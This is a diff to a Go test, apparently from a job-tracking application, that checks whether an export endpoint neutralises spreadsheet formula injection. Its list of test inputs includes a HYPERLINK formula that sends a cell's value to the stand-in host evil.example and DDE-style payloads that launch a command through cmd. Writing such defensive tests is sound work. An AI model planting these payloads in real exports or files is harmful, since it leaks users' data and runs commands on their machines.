@@ -171,11 +171,8 @@ func TestAbuseFormulaInExport(t *testing.T) {
 	t.Parallel()
 	f := openHouse(t).firm("sahyadri")
 	for i, evil := range []string{`=HYPERLINK("http://evil.example?x="&A1,"open")`, "+91 98765 43210", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"} {
-		if i == 6 {
-			f.create(f.process, flow.NewJob{Number: evil, Customer: evil, Item: evil, Quantity: flow.One})
-			continue
-		}
-		f.create(f.process, flow.NewJob{Number: evil[:len(evil)%30+1] + strconv.Itoa(i), Customer: evil, Item: evil, Unit: evil[:len(evil)%30+1], Quantity: flow.One})
+		short := string([]rune(evil)[:min(len([]rune(evil)), 20)])
+		f.create(f.process, flow.NewJob{Number: short + strconv.Itoa(i), Customer: evil, Item: evil, Unit: short, Quantity: flow.One})
 	}
 	rows := f.ownerBrowser().table("/board/export?process=" + f.process.ID.String())
 	if len(rows) != 8 {
